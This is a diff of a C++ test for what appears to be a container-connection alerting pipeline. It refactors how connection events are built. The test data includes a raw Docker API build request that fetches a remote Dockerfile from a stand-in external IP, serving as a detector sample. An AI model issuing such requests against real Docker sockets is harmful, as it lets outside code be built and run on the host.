@@ -45,9 +45,15 @@ TEST_CASE("What waits for its time is decided a window after it, not with the ne
       {"host", "boot", "", "", 0}, seen, nullptr,
       [&](const v1::Alert& alert) { alerts.push_back(alert); }, app::kLiveWindow);
   const domain::TimeNs start = 100'000 * kMs;
-  pipeline.push(
-      domain::ConnOpened{.time = start, .conn = 1, .engine = domain::EngineKind::kDocker});
-  domain::ConnData data{.time = start + kMs, .conn = 1, .at_head = true};
+  domain::ConnOpened opened;
+  opened.time = start;
+  opened.conn = 1;
+  opened.engine = domain::EngineKind::kDocker;
+  pipeline.push(opened);
+  domain::ConnData data;
+  data.time = start + kMs;
+  data.conn = 1;
+  data.at_head = true;
   data.bytes =
       "POST /v1.41/build?remote=http://198.51.100.66/Dockerfile HTTP/1.1\r\nHost: d\r\n"
       "Content-Length: 0\r\n\r\n";
